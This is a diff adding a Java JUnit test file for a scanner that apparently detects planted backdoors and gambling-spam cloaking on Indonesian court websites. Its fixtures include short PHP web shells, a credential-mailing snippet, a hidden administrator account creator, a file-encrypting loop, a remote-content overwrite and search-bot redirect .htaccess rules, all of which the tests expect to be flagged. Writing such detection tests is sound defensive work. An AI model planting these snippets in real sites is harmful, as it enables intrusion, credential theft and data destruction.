@@ -1,0 +1,153 @@
+package id.jagasitus.watch;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.LocalDate;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** Programs, configurations and lists: what one of each kind does, and what only looks like it. */
+final class PlantedFilesTest {
+
+  private static final LocalDate TODAY = LocalDate.of(2026, 11, 22);
+  private static final Hosts COURT = new Hosts("pn-contoh.go.id", Set.of());
+
+  private static final List<String> DOORS =
+      List.of(
+          "<?=`$_GET[0]`?>",
+          "<?php $f=$_GET['f']; $a=$_GET['a']; $f($a) ?>",
+          "<?php array_udiff_assoc(array($_REQUEST['p']), array(1), \"assert\");",
+          "<?php $a=('!'^'@').'ssert'; $b='_'.'POST'; $c=$$b; $a($c['x']);",
+          "<?php system('chattr -i .htaccess'); @unlink('.htaccess');",
+          "<?php file_put_contents('index.php', file_get_contents('https://kue.example.org/a.txt'));",
+          "<?php if($_POST['src']) file_put_contents($_POST['fn'],$_POST['src']);",
+          "<?php foreach(glob('*') as $f){file_put_contents($f.'.x',openssl_encrypt(file_get_contents($f),'aes-256-cbc',$k));unlink($f);}",
+          "<?php $user='wpsupport'; $pass='a1b2c3d4'; $id=wp_create_user($user,$pass,'a@b.co'); $u=new WP_User($id); $u->set_role('administrator');",
+          "<?php mail('x@yandex.com','log',$_POST['username'].'|'.$_POST['passwd']);",
+          "<?php $l=file('list.txt',FILE_IGNORE_NEW_LINES);if(in_array($_GET['go'],$l)){$B=$_GET['go'];} ?><h1><?=$B?></h1>");
+
+  private static final List<String> WORK =
+      List.of(
+          "<?php $ext=pathinfo($_FILES['b']['name'],PATHINFO_EXTENSION); if(in_array($ext,['pdf'])){ move_uploaded_file($_FILES['b']['tmp_name'],'u/'.uniqid().'.pdf'); }",
+          "<?php $rules=['method'=>'patch','anonymous'=>true]; class ArticleRequest extends FormRequest { }",
+          "<?php return ['title'=>'ファイルマネージャー','upload'=>'アップロードする','delete'=>'削除しますか、本当に削除しますか'];",
+          "<?php error_reporting(0); $p=md5($_POST['password']); $q=mysqli_query($db,\"select * from users where p='$p'\");",
+          "<?php $id=$_GET['id']; $q=$db->query('select * from berita'); ?><a class='navbar-brand' href='/'>x</a><ul class='list'></ul><b class='brand-text'>",
+          "<?php $x=json_decode(file_get_contents(\"http://$host/jadwal\"));",
+          "<?php $ids=array_map('intval',$_POST['ids']); $this->simpan($_POST['nama']);");
+
+  private static final List<String> RULES_AGAINST =
+      List.of(
+          "RewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\nRewriteRule ^(.*)$ /x/index.php [L]\n",
+          "RewriteCond %{HTTP_USER_AGENT} (ahrefsbot) [NC]\nRewriteRule .* - [F]\nRewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule .* /lp.html [L]\n",
+          "<FilesMatch \"^(about.php|radio.php)$\">\nOrder allow,deny\nAllow from all\n</FilesMatch>\n");
+
+  private static final List<String> RULES_FOR =
+      List.of(
+          "RewriteCond %{HTTP_USER_AGENT} (ahrefs|semrush|mj12bot) [NC]\nRewriteRule .* - [F,L]\n",
+          "<FilesMatch \"\\.(php|phtml)$\">\nOrder allow,deny\nDeny from all\n</FilesMatch>\n",
+          "<Files admin-ajax.php>\nOrder allow,deny\nAllow from all\n</Files>\n");
+
+  @TempDir Path site;
+
+  private final CleanScanner scanner = new CleanScanner(Programs.EXPECTED);
+
+  @Test
+  void scan_backDoors_areCritical() throws IOException {
+    for (String door : DOORS) {
+      expect(Verdict.CRITICAL, "a.php", door);
+    }
+  }
+
+  @Test
+  void scan_programsOfASite_stayQuiet() throws IOException {
+    for (String program : WORK) {
+      expect(Verdict.NONE, "a.php", program);
+    }
+  }
+
+  @Test
+  void scan_configurationAgainstVisitors_isCritical() throws IOException {
+    for (String rules : RULES_AGAINST) {
+      expect(Verdict.CRITICAL, ".htaccess", rules);
+    }
+  }
+
+  @Test
+  void scan_configurationThatRefuses_staysQuiet() throws IOException {
+    for (String rules : RULES_FOR) {
+      expect(Verdict.NONE, ".htaccess", rules);
+    }
+  }
+
+  @Test
+  void scan_mapOfHeadlines_isNoDoorway() throws IOException {
+    String told = "<urlset><url><loc>https://pn-contoh.go.id/penyuluhan-slot-gacor</loc></url></urlset>";
+    var signals = scanned("sitemap.xml", told).signals();
+    assertFalse(signals.stream().anyMatch(at -> at.id().equals("gambling-in-sitemap")));
+    expect(Verdict.CRITICAL, "sitemap.xml", told.replace("penyuluhan-", "x-"));
+  }
+
+  @Test
+  void scan_robotsOfAnotherOffice_isARemark() throws IOException {
+    expect(Verdict.NONE, "robots.txt", "Sitemap: https://pn-lain.go.id/sitemap.xml\n");
+    expect(Verdict.CRITICAL, "robots.txt", "Sitemap: https://s.id/peta.xml\n");
+    expect(Verdict.CRITICAL, "robots.txt", "Sitemap: https://pn-lain.go.id/slot-gacor/s.xml\n");
+  }
+
+  @Test
+  void guarded_whenJudgingBreaks_tellsThatItWasNotJudged() {
+    for (Throwable breaks : List.of(new StackOverflowError(), new IllegalStateException("x"))) {
+      var signals = new ArrayList<ScanSignal>();
+      var judged = CleanScanner.guarded(subject(), (of, into) -> broken(breaks), signals);
+      assertEquals(
+          List.of(new ScanSignal("not-judged", 40, breaks.getClass().getSimpleName())), signals);
+      assertEquals(Optional.empty(), judged.date());
+      assertEquals(Verdict.REVIEW, ScanResult.of("a", signals, Optional.empty()).verdict());
+    }
+  }
+
+  @Test
+  void guarded_whenJudgingBreaksLate_keepsWhatWasSeenBefore() {
+    var signals = new ArrayList<ScanSignal>();
+    var seen = new ScanSignal("seen-before", 60, "");
+    CleanScanner.guarded(
+        subject(),
+        (of, into) -> {
+          into.add(seen);
+          return broken(new StackOverflowError());
+        },
+        signals);
+    assertEquals(seen, signals.getFirst());
+    assertEquals(2, signals.size());
+  }
+
+  private static CleanScanner.Subject subject() {
+    return new CleanScanner.Subject("<p>", "/a.html", "/a.html", COURT, TODAY);
+  }
+
+  private static CleanScanner.Judged broken(Throwable breaks) {
+    if (breaks instanceof Error error) {
+      throw error;
+    }
+    throw (RuntimeException) breaks;
+  }
+
+  private void expect(Verdict verdict, String name, String text) throws IOException {
+    ScanResult result = scanned(name, text);
+    assertEquals(verdict, result.verdict(), () -> text + result);
+  }
+
+  private ScanResult scanned(String name, String text) throws IOException {
+    Path file = Files.writeString(site.resolve(name), text);
+    return scanner.scanFile(file, "/" + name, COURT, TODAY);
+  }
+}
